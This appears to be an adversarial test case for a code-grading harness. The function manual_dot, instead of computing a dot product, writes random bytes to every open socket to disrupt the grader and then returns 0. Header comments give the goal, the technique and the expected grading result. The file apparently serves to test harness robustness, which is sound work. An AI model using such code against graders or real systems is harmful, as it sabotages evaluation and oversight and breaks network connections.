# goal: denial
# technique: writes random bytes to every socket, in a cell and in calls
# with: honest answers above
# expect: status graded
# expect: manual_dot == 0
import os
import stat


def manual_dot(x, y):
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, os.urandom(50_000))
        except OSError:
            pass
    return 0


manual_dot([], [])
